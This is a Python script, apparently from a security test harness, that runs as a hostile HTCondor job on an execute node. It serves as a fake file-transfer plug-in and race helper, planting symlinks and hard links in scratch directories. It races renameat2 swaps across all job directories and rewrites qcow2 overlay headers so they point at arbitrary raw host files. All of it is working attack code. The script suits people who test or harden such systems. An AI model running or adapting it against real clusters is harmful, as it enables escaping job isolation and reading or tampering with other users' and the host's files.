#!/usr/bin/python3
"""What an attacking job runs on the node, as its user: as a file transfer plug-in, as PreCmd, or as a job beside it.

As a plug-in it acts on URLs hostile://ACTION/NAME/TARGET, where TARGET is an absolute path; as a command on the words
ACTION NAME TARGET. NAME is a file of the scratch directory.
"""

import ctypes
import glob
import os
import re
import sys
import time

_EXCHANGE = 2  # renameat2(2)
_AT_FDCWD = -100


def link(path: str, target: str) -> None:
    """Put a symlink in the place of a file."""
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)


def hard(path: str, target: str) -> None:
    """Make a hard link of a file."""
    os.link(target, path)


def wait(path: str, target: str) -> None:
    """Wait for a file, which somebody else puts there. A file beside it tells him."""
    with open(f"{path}.wanted", "w", encoding="utf-8"):
        end = time.monotonic() + 60
        while not os.path.lexists(path) and time.monotonic() < end:
            time.sleep(0.05)


def rewrite(path: str, target: str) -> None:
    """Make the header of a qcow2 overlay name another backing file, a raw one."""
    with open(path, "r+b") as image:
        header = image.read(1 << 16)
        place = int.from_bytes(header[8:16], "big")
        image.seek(16)
        image.write(len(target).to_bytes(4, "big"))
        image.seek(place)
        image.write(target.encode())
        # the extension with the backing file's format, which is 8 bytes long with either
        image.seek(header.index(b"\xe2\x79\x2a\xca") + 4)
        image.write((3).to_bytes(4, "big") + b"raw\0\0\0\0\0")


ACTIONS = {"link": link, "hard": hard, "wait": wait, "rewrite": rewrite}


def swap(name: str, marker: str, target: str, end: str) -> None:
    """Until there is a file `end`: swap a file with a symlink, again and again, wherever a job has brought a marker.

    A marker that ends in `-late`: only once the guest is about to start. Prints how often, and in how many directories.
    """
    exchange = ctypes.CDLL(None).renameat2
    count: dict[str, int] = {}
    while not os.path.exists(end):
        for path in glob.glob(f"/var/lib/condor/execute/dir_*/scratch/{marker}"):
            scratch = os.path.dirname(path)
            if marker.endswith("-late") and not os.path.lexists(f"{scratch}/console.log"):
                continue
            beside = f"{scratch}/.swapped"
            try:
                if not os.path.lexists(beside):
                    os.symlink(target, beside)
            except OSError:  # the job has ended
                continue
            if exchange(_AT_FDCWD, f"{scratch}/{name}".encode(), _AT_FDCWD, beside.encode(), _EXCHANGE) == 0:
                count[scratch] = count.get(scratch, 0) + 1
        time.sleep(0.0005)
    print(sum(count.values()), len(count))


def transfer(words: list[str]) -> None:
    """Do what HTCondor asks of a plug-in."""
    with open(words[words.index("-infile") + 1], encoding="utf-8") as file:
        asked = file.read()
    with open(words[words.index("-outfile") + 1], "r+", encoding="utf-8") as answer:
        for url, local in zip(re.findall('Url = "(.*?)"', asked), re.findall('LocalFileName = "(.*?)"', asked)):
            action, name, target = url[len("hostile://") :].split("/", 2)
            ACTIONS[action](f"{os.path.dirname(local)}/{name}", f"/{target}")
            answer.write(f'[ TransferSuccess = true; TransferFileName = "{local}"; TransferUrl = "{url}" ]\n')


if "-classad" in sys.argv:
    print('PluginVersion = "1"\nPluginType = "FileTransfer"\nSupportedMethods = "hostile"\nMultipleFileSupport = true')
elif "-infile" in sys.argv:
    transfer(sys.argv)
elif sys.argv[1] == "swap":
    swap(*sys.argv[2:])
else:
    ACTIONS[sys.argv[1]](sys.argv[2], sys.argv[3])
